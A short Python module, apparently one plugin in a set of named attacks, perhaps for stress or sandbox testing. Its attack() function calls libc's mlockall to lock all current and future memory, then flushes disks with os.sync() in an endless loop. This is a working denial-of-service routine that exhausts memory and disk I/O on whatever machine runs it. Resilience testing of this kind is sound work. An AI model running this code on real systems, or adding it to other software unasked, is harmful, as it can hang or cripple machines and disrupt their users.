"""The machine's disks are flushed again and again, and memory locked."""
# layers: yes
import ctypes, os
libc = ctypes.CDLL(None)
def attack(name, args, keywords):
    libc.mlockall(7)
    while True:
        os.sync()
